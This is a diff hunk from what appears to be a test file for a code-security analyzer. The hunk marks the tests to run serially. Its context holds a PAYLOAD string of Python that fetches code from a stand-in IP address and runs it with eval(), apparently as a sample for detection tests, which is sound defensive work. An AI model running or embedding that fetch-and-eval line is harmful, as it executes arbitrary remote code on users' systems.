@@ -24,6 +24,9 @@ from analyzer.engine.rules import load_rules
 from analyzer.model import Decision
 from analyzer.policy import load_policy
 
+# Asserts on wall time (its time budgets and limits): `make test` runs it alone, after the parallel run.
+pytestmark = pytest.mark.serial
+
 PAYLOAD = ('code = urllib.request.urlopen("http://203.0.113.5/x").read().decode()\n'
            'eval(code)\n')
 
